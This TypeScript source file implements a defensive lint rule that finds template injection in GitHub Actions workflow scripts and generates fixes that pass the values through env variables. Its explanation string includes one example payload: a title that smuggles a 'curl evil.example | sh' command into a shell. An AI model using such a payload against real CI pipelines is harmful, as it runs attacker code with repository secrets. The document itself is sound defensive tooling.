import type { Severity } from '#lib/domain/finding/finding.ts';
import { type Edit, indentOf } from '#lib/domain/pipeline/diff.ts';
import { type Expression, expressionsIn, lineOfExpression } from '#lib/domain/pipeline/expression.ts';
import type { GithubFile, Job, Step } from '#lib/domain/pipeline/model.ts';
import { entryOf, get, type TextNode, textOf } from '#lib/domain/pipeline/node.ts';
import { GITHUB_DOCS, type Match, type Rule } from '#lib/domain/pipeline/rule.ts';
import { hasEvent, PRIVILEGED_EVENTS, Sight } from '#lib/domain/pipeline/untrusted.ts';

export const templateInjection: Rule = {
  of: 'github',
  id: 'template-injection',
  title: 'A value that strangers choose becomes part of a script',
  why:
    'An expression in a script is replaced before the shell sees it: a title such as a"; curl evil.example | sh; " is then a command, ' +
    'run with the token and the secrets of the job.',
  fix: 'Hand the value over in env and use the variable in the script, in quotes: the shell then sees a value, never a command.',
  severity: 'high',
  controls: ['CICD-SEC-4', 'CIS 2.3'],
  cwes: [94, 78],
  references: [GITHUB_DOCS.injection, GITHUB_DOCS.secureUse],
  check: (file) => file.jobs.flatMap((job) => job.steps.flatMap((step) => inStep(file, job, step))),
};

/** Inputs of actions that are run as code. */
const SCRIPT_INPUTS: readonly (readonly [action: RegExp, input: string])[] = [
  [/^actions\/github-script$/i, 'script'],
  [/^azure\/(?:cli|powershell)$/i, 'inlineScript'],
  [/^appleboy\/ssh-action$/i, 'script'],
  [/^(?:mikefarah\/yq|devcontainers\/ci)$/i, 'cmd'],
];

interface Script {
  text: TextNode;
  language: 'shell' | 'powershell' | 'javascript' | 'other';
}

function scriptOf(job: Job, step: Step): Script | null {
  if (step.run !== null) return { text: step.run, language: languageOf(job, step) };
  const { uses } = step;
  if (uses?.place !== 'repository') return null;
  const input = SCRIPT_INPUTS.find(([action]) => action.test(uses.name))?.[1];
  const text = input === undefined ? null : get(step.with, input);
  if (text?.kind !== 'text') return null;
  return { text, language: /github-script$/i.test(uses.name) ? 'javascript' : 'other' };
}

function languageOf(job: Job, step: Step): Script['language'] {
  const shell = step.shell ?? textOf(get(job.node, 'defaults', 'run', 'shell')) ?? '';
  if (/^(?:pwsh|powershell)/.test(shell) || (shell === '' && /windows/i.test(textOf(job.runsOn) ?? '')))
    return 'powershell';
  return shell === '' || /^(?:bash|sh)\b/.test(shell) ? 'shell' : 'other';
}

function inStep(file: GithubFile, job: Job, step: Step): Match[] {
  const script = scriptOf(job, step);
  if (script === null) return [];
  const sight = new Sight(file, job, step);
  const found = expressionsIn(script.text.value).filter(({ body }) => sight.untrustedIn(body) !== null);
  return found.map((expression) => ({
    line: lineOfExpression(script.text, expression),
    job: job.key,
    step: step.key,
    severity: severityOf(file),
    message: messageOf(file, expression, sight.untrustedIn(expression.body) ?? ''),
    shared: { check: 'template-injection', about: expression.body.replace(/\s+/g, '').toLowerCase() },
    edits: editsOf(file, step, script, found),
  }));
}

function severityOf(file: GithubFile): Severity {
  if (hasEvent(file, PRIVILEGED_EVENTS)) return 'critical';
  return file.events === null || hasEvent(file, ['pull_request', 'workflow_call']) ? 'high' : 'medium';
}

function messageOf(file: GithubFile, { body }: Expression, context: string): string {
  const who = hasEvent(file, PRIVILEGED_EVENTS)
    ? 'Anybody can choose it, and the job has the secrets and the token of the repository.'
    : file.events !== null && !hasEvent(file, ['pull_request', 'workflow_call'])
      ? 'Whoever can push a commit or a branch chooses it.'
      : 'Whoever opens a pull request chooses it.';
  return `\${{ ${body} }} is put into the script as it is. ${context} is free text. ${who}`;
}

/** `github.event.issue.title` as the name of a variable. */
function variableOf(body: string): string {
  const last = body
    .replace(/\['([\w-]+)'\]/g, '.$1')
    .split('.')
    .slice(-2)
    .join('_');
  const name = last
    .replace(/[^A-Za-z0-9]+/g, '_')
    .replace(/^_+|_+$/g, '')
    .toUpperCase();
  return name === '' || /^\d/.test(name) || name.length > 40 ? 'UNTRUSTED_VALUE' : name;
}

const inLanguage = (name: string, language: Script['language']): string =>
  language === 'powershell' ? `$env:${name}` : language === 'javascript' ? `process.env.${name}` : `\${${name}}`;

/** The expressions of a script handed over in `env`; empty where the text is not as it is written, or quotes decide. */
function editsOf(file: GithubFile, step: Step, { text, language }: Script, found: readonly Expression[]): Edit[] {
  const key = entryOf(step.node, step.run === null ? 'with' : 'run');
  if (text.firstLine === null || language === 'other' || key === null) return [];
  const names = new Map(found.map(({ body }) => [body, variableOf(body)]));
  if (new Set(names.values()).size < names.size) return [];
  const edits: Edit[] = [];
  for (const line of new Set(found.map((each) => lineOfExpression(text, each)))) {
    const before = file.lines[line - 1] ?? '';
    const after = [...names].reduce((result, [body, name]) => replaced(result, body, name, language), before);
    if (after === before || (language === 'shell' && isInSingleQuotes(before))) return [];
    edits.push({ at: line, remove: 1, insert: [after] });
  }
  return [...edits, ...envEdits(file, step, key.line, key.column, names)];
}

function replaced(line: string, body: string, name: string, language: Script['language']): string {
  const written = line.match(/\$\{\{.*?\}\}/g)?.find((each) => each.slice(3, -2).trim() === body);
  if (written === undefined) return line;
  const value = inLanguage(name, language);
  if (language !== 'javascript') return line.replaceAll(written, () => value);
  // A value in quotes was a literal; a variable is none.
  return [`'${written}'`, `"${written}"`, `\`${written}\``, written].reduce(
    (text, each) => text.replaceAll(each, () => value),
    line,
  );
}

/** Whether the shell would not look into the variable. */
const isInSingleQuotes = (line: string): boolean =>
  /'[^']*\$\{\{[^']*'/.test(line.replace(/\$\{\{.*?\}\}/g, (each) => each.replaceAll("'", ' ')));

function envEdits(
  file: GithubFile,
  step: Step,
  keyLine: number,
  keyColumn: number,
  names: ReadonlyMap<string, string>,
): Edit[] {
  const env = entryOf(step.node, 'env');
  const lines = (indent: string) => [...names].map(([body, name]) => `${indent}${name}: \${{ ${body} }}`);
  if (env !== null) {
    const first = env.value.kind === 'map' ? env.value.entries[0] : undefined;
    if (first === undefined || first.line === env.line) return [];
    return [{ at: first.line, remove: 0, insert: lines(' '.repeat(first.column - 1)) }];
  }
  const line = file.lines[keyLine - 1] ?? '';
  const isFirst = /^\s*-\s/.test(line) && indentOf(line).length < keyColumn - 1;
  const indent = ' '.repeat(keyColumn - 1);
  if (!isFirst) return [{ at: keyLine, remove: 0, insert: [`${indent}env:`, ...lines(`${indent}  `)] }];
  return [];
}
